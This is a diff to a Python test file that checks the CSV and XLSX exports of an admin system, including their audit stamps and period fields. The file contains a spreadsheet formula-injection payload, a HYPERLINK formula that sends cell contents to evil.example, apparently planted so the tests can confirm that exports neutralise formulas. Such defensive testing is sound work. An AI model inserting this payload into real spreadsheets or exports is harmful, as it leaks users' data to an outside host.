@@ -13,12 +13,14 @@ import pytest
 
 from domain.models import BusinessType, Org
 from domain.platform.clock import utcnow
-from domain.platform.exports import FORMULA_STARTS, inert
+from domain.platform.exports import FORMULA_STARTS, STAMP_MARK, inert
 from tests.admin_support import admin_site, demo_log_in, site_config, submit, zh
 from tests.export_support import after_stamp, csv_lines, stamp_of, xlsx_lines
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 ZONE_NAME = "Asia/Shanghai"
+# the exported lists that cover a period (the others are exported as they stand)
+PERIOD_LISTS = {"cases_export", "incidents_export", "voucher_journal_export", "audit_export"}
 
 
 def export_forms() -> dict[str, tuple[str, dict[str, str]]]:
@@ -31,7 +33,10 @@ def export_forms() -> dict[str, tuple[str, dict[str, str]]]:
         "case_audit_report_export": ("/case-audits/report", {"from": start, "to": end}),
         "callback_report_export": ("/callbacks/report",
                                    {"start": start, "end": end, "by": "org"}),
-    }
+    } | {f"{name}_export": (page, {"query": "", "start": start, "end": end}) for name, page in (
+        ("devices", "/devices"), ("staff", "/staff"), ("qualifications", "/qualifications"),
+        ("cases", "/cases"), ("incidents", "/incidents"),
+        ("voucher_journal", "/vouchers/journal"), ("audit", "/audit"))}
 
 
 async def plant_formulas() -> None:
@@ -85,7 +90,7 @@ async def test_every_export_states_who_when_the_filter_and_the_purpose(
         await demo_log_in(client, "auditor")
         app = client.server.app
         assert app is not None
-        stamps, tables = {}, {}
+        stamps, tables, headings = {}, {}, {}
         for name, (page, form) in export_forms().items():
             url = app.router[name].url_for().path
             for fmt in ("csv", "xlsx"):
@@ -94,15 +99,25 @@ async def test_every_export_states_who_when_the_filter_and_the_purpose(
                 body = await response.read()
                 lines = csv_lines(body) if fmt == "csv" else xlsx_lines(body)
                 stamps[(name, fmt)], tables[(name, fmt)] = stamp_of(lines), after_stamp(lines)
+                headings[(name, fmt)] = lines[0][0]
     today = utcnow().astimezone(ZoneInfo(ZONE_NAME)).date().isoformat()
     for (name, fmt), stamp in stamps.items():
-        assert list(stamp) == [zh("Exported by"), zh("Exported at"), zh("Filter"),
+        period = [zh("Period")] if name in PERIOD_LISTS else []
+        assert list(stamp) == [zh("Exported by"), zh("Exported at"), *period, zh("Filter"),
                                zh("Purpose")], (name, fmt)
         assert stamp[zh("Exported by")] == "E0004 李稽核"
         assert str(stamp[zh("Exported at")]).startswith(today)
         assert str(stamp[zh("Exported at")]).endswith(f"({ZONE_NAME})")
         assert stamp[zh("Purpose")] == "年度稽核"
-        assert len(tables[(name, fmt)]) == len(tables[(name, "csv")])
+        # the audit log's XLSX holds the audit row of its CSV export, made just before
+        written = int(name == "audit_export" and fmt == "xlsx")
+        assert len(tables[(name, fmt)]) == len(tables[(name, "csv")]) + written
+    # an XLSX file opens with its report's name; a CSV file with its stamp
+    assert all(not str(heading).startswith(STAMP_MARK) for (_name, fmt), heading
+               in headings.items() if fmt == "xlsx")
+    assert headings[("voucher_reconciliation_export", "xlsx")] == zh("Monthly reconciliation")
+    assert all(str(heading).startswith(STAMP_MARK) for (_name, fmt), heading
+               in headings.items() if fmt == "csv")
     month = export_forms()["voucher_reconciliation_export"][1]["month"]
     assert stamps[("voucher_reconciliation_export", "csv")][zh("Filter")] == (
         f"{zh('Month')}: {month}")
